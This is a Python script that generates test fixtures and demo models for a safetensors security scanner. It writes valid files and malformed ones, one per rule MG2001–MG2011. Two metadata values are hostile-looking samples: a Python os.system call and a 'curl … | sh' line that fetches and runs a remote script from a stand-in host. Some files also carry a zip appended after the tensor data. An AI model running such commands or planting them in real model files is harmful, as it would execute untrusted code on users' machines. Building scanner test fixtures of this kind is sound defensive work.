"""Writes the safetensors fixtures and demo models.

Run from the repository root:  python3 testdata/gen/safetensors.py

Outputs:
  scanner/safetensors/testdata/*.safetensors  one valid file per layout the
      scanner must accept, and one malformed file per rule MG2001..MG2011
      (the rule IDs each must yield are listed in safetensors_test.go);
  testdata/demo/models/*.safetensors          a small, realistic demo set;
  testdata/clean/models/model.safetensors     the clean tree (scans exit 0).

Standard library only (Python 3.11); the output is deterministic, so
re-running it leaves the tree unchanged. Valid files are laid out exactly as
the reference writer (safetensors.torch.save_file) lays them out: compact
JSON, "__metadata__" first, the header padded with spaces to a multiple of 8
bytes, tensors back to back from data offset 0. Malformed files change one
thing each. No file carries a working payload: the "code" and "URLs" are
inert strings under example.invalid.
"""
import hashlib
import io
import json
import os
import struct
import zipfile

FIXTURES = os.path.join("scanner", "safetensors", "testdata")
DEMO = os.path.join("testdata", "demo", "models")
CLEAN = os.path.join("testdata", "clean", "models")
FIXED_TIME = (2024, 1, 1, 0, 0, 0)

# Element size in bits, as in the specification.
DTYPE_BITS = {
    "BOOL": 8, "U8": 8, "I8": 8, "F8_E5M2": 8, "F8_E4M3": 8, "F8_E8M0": 8,
    "F8_E4M3FNUZ": 8, "F8_E5M2FNUZ": 8, "I16": 16, "U16": 16, "F16": 16,
    "BF16": 16, "I32": 32, "U32": 32, "F32": 32, "I64": 64, "U64": 64,
    "F64": 64, "C64": 64, "F4": 4, "F6_E2M3": 6, "F6_E3M2": 6,
}


# --- building blocks ---------------------------------------------------------

def noise(label, size):
    """Deterministic pseudo-random bytes (tensor contents nobody reads)."""
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{label}/{counter}".encode()).digest()
        counter += 1
    return out[:size]


def nbytes(dtype, shape):
    count = 1
    for d in shape:
        count *= d
    return count * DTYPE_BITS[dtype] // 8


def floats(fmt, values):
    """Packs little-endian numbers; BF16 keeps the top half of each F32."""
    if fmt == "BF16":
        return b"".join(struct.pack("<f", v)[2:] for v in values)
    return struct.pack("<%d%s" % (len(values), fmt), *values)


def tensor(name, dtype, shape, data=None):
    data = noise(name, nbytes(dtype, shape)) if data is None else data
    assert len(data) == nbytes(dtype, shape), name
    return (name, dtype, list(shape), data)


def layout(tensors, metadata=None):
    """The header dict and the data section for tensors laid out in order."""
    header = {} if metadata is None else {"__metadata__": metadata}
    data = b""
    for name, dtype, shape, blob in tensors:
        header[name] = {"dtype": dtype, "shape": shape,
                        "data_offsets": [len(data), len(data) + len(blob)]}
        data += blob
    return header, data


def encode(header):
    """Compact JSON as serde_json writes it, padded with spaces to 8 bytes."""
    if not isinstance(header, bytes):
        header = json.dumps(header, separators=(",", ":"), ensure_ascii=False).encode()
    return header + b" " * (-len(header) % 8)


def frame(header, data=b"", length=None):
    """u64 header length, header, data; length overrides the true length."""
    raw = encode(header)
    n = len(raw) if length is None else length
    return struct.pack("<Q", n) + raw + data


def safetensors(tensors, metadata=None):
    return frame(*layout(tensors, metadata))


def small_zip():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo("payload/readme.txt", FIXED_TIME),
                   b"bytes hidden after the last tensor\n")
    return buf.getvalue()


def with_offsets(tensors, offsets, metadata=None):
    """A header whose data_offsets are given explicitly."""
    header, _ = layout(tensors, metadata)
    for (name, *_), span in zip(tensors, offsets):
        header[name]["data_offsets"] = list(span)
    return header


# --- fixtures ----------------------------------------------------------------

PT = {"format": "pt"}
W4 = [tensor("w", "F32", [4])]


def valid_multi():
    return safetensors([
        tensor("lm_head.scale", "F64", [2], floats("d", [0.5, 2.0])),
        tensor("embed.weight", "F32", [4, 4], floats("f", [i / 8 for i in range(16)])),
        tensor("fc.weight", "BF16", [4, 2], floats("BF16", [1.0, -1.0, 0.25, 3.5, 0, 2, -2, 1.5])),
        tensor("fc.bias", "F16", [4], floats("e", [0.0, 0.5, -0.5, 1.0])),
        tensor("step", "I64", [], struct.pack("<q", 1000)),
        tensor("mask", "BOOL", [3], b"\x01\x00\x01"),
        tensor("q.packed", "F4", [6]),
        tensor("q.scale", "F8_E4M3", [2]),
    ], PT)


def valid_edge():
    """No metadata, an empty tensor, a scalar, sub-byte and complex dtypes,
    entries listed out of offset order."""
    ts = [tensor("c", "C64", [1]), tensor("empty", "F32", [0, 3], b""),
          tensor("f6", "F6_E2M3", [4]), tensor("scalar", "U8", [])]
    header, data = layout(ts)
    reordered = {k: header[k] for k in ["scalar", "f6", "empty", "c"]}
    return frame(reordered, data)


def duplicate_key():
    entry = '{"dtype":"F32","shape":[4],"data_offsets":[0,16]}'
    field = '{"dtype":"U8","dtype":"U8","shape":[2],"data_offsets":[16,18]}'
    raw = '{"w":%s,"w":%s,"b":%s}' % (entry, entry, field)
    return frame(raw.encode(), noise("dup", 18))


def flood():
    return safetensors([tensor(f"t{i:02d}", "U8", [1]) for i in range(40)]).replace(b'"U8"', b'"Q8"')


def malformed_entry():
    header = {
        "neg": {"dtype": "F32", "shape": [2, -1], "data_offsets": [0, 8], "note": "x"},
        "noshape": {"dtype": "U8", "data_offsets": [8, 9]},
        "reversed": {"dtype": "U8", "shape": [1], "data_offsets": [10, 9]},
        "scalar": 7,
        "float": {"dtype": "U8", "shape": [1.0], "data_offsets": [10, 11]},
    }
    return frame(header, noise("bad", 11))


def deep_nesting():
    raw = '{"__metadata__":{"x":%s"y"%s}}' % ("[" * 100, "]" * 100)
    return frame(raw.encode())


def fixtures():
    two = [tensor("a", "F32", [4]), tensor("b", "F32", [4])]
    return {
        # valid
        "valid-multi.safetensors": valid_multi(),
        "valid-empty.safetensors": frame({}),
        "valid-edge.safetensors": valid_edge(),
        # MG2001
        "header-length-zero.safetensors": struct.pack("<Q", 0),
        "header-length-huge.safetensors": frame({}, length=2**64 - 1),
        "header-length-past-eof.safetensors": frame(layout(W4)[0], length=4096),
        "truncated-short.safetensors": struct.pack("<Q", 64)[:5],
        # MG2002
        "invalid-json.safetensors": frame(b'{"w":{"dtype":"F32" "shape":[4],"data_offsets":[0,16]}}', noise("w", 16)),
        "not-object.safetensors": frame(b'[{"dtype":"F32","shape":[4],"data_offsets":[0,16]}]', noise("w", 16)),
        "leading-whitespace.safetensors": frame(b"  " + encode(layout(W4)[0]).rstrip(), noise("w", 16)),
        "trailing-content.safetensors": frame(encode(layout(W4)[0]).rstrip() + b"garbage", noise("w", 16)),
        "invalid-utf8.safetensors": frame(encode(layout(W4, {"note": "caf"})[0]).replace(b"caf", b"caf\xff"), noise("w", 16)),
        "deep-nesting.safetensors": deep_nesting(),
        # MG2003
        "duplicate-key.safetensors": duplicate_key(),
        # MG2004
        "unknown-dtype.safetensors": safetensors([tensor("w", "F32", [4])], PT).replace(b'"F32"', b'"F33"'),
        "flood-unknown-dtype.safetensors": flood(),
        # MG2005
        "malformed-entry.safetensors": malformed_entry(),
        # MG2006
        "size-mismatch.safetensors": frame(with_offsets([tensor("w", "F32", [2, 2])], [(0, 12)]), noise("w", 12)),
        "subbyte-misaligned.safetensors": frame({"w": {"dtype": "F4", "shape": [3], "data_offsets": [0, 2]}}, noise("w", 2)),
        "shape-overflow.safetensors": frame({"w": {"dtype": "U8", "shape": [2**32, 2**32], "data_offsets": [0, 1]}}, b"\x00"),
        # MG2007
        "overlap.safetensors": frame(with_offsets(two, [(0, 16), (8, 24)]), noise("o", 24)),
        "gap.safetensors": frame(with_offsets(two, [(0, 16), (24, 40)]), noise("g", 40)),
        # MG2007 + MG2008
        "offset-past-data.safetensors": frame(with_offsets(two, [(0, 16), (32, 48)]), noise("p", 32)),
        # MG2008
        "trailing-zip.safetensors": safetensors(W4, PT) + small_zip(),
        "truncated-data.safetensors": safetensors(two, PT)[:-12],
        # MG2009
        "metadata-non-string.safetensors": safetensors(W4, {"format": "pt", "epochs": 3}),
        "metadata-not-object.safetensors": safetensors(W4, ["format", "pt"]),
        # MG2010
        "metadata-code.safetensors": safetensors(W4, {"format": "pt", "hook": "__import__('os').system('id')"}),
        # MG2011
        "metadata-url.safetensors": safetensors(W4, {"format": "pt", "card": "see https://example.invalid/model-card"}),
    }


# --- demo models -------------------------------------------------------------

def tiny_model():
    """A two-layer toy decoder, named like a Hugging Face checkpoint."""
    return [
        tensor("model.embed_tokens.weight", "BF16", [16, 8]),
        tensor("model.layers.0.mlp.down_proj.weight", "BF16", [8, 16]),
        tensor("model.layers.0.mlp.up_proj.weight", "BF16", [16, 8]),
        tensor("model.norm.weight", "F32", [8], floats("f", [1.0] * 8)),
    ]


def demo():
    model = tiny_model()
    header, data = layout(model, PT)
    return {
        "clean.safetensors": safetensors(model, PT),
        "appended-payload.safetensors": safetensors(model, PT) + small_zip(),
        "header-overflow.safetensors": frame(header, data, length=2**40),
        "overlapping-tensors.safetensors": frame(
            with_offsets(model[:2], [(0, 256), (128, 384)], PT), noise("demo", 384)),
        "metadata-shell.safetensors": safetensors(model, {
            "format": "pt", "post_install": "curl -s https://example.invalid/x.sh | sh"}),
    }


def write_all(directory, files):
    os.makedirs(directory, exist_ok=True)
    for name, data in sorted(files.items()):
        assert len(data) < 4096, (name, len(data))
        with open(os.path.join(directory, name), "wb") as f:
            f.write(data)
        print(f"{hashlib.sha256(data).hexdigest()[:16]}  {len(data):5d}  {os.path.join(directory, name)}")


if __name__ == "__main__":
    write_all(FIXTURES, fixtures())
    write_all(DEMO, demo())
    write_all(CLEAN, {"model.safetensors": safetensors(tiny_model(), PT)})
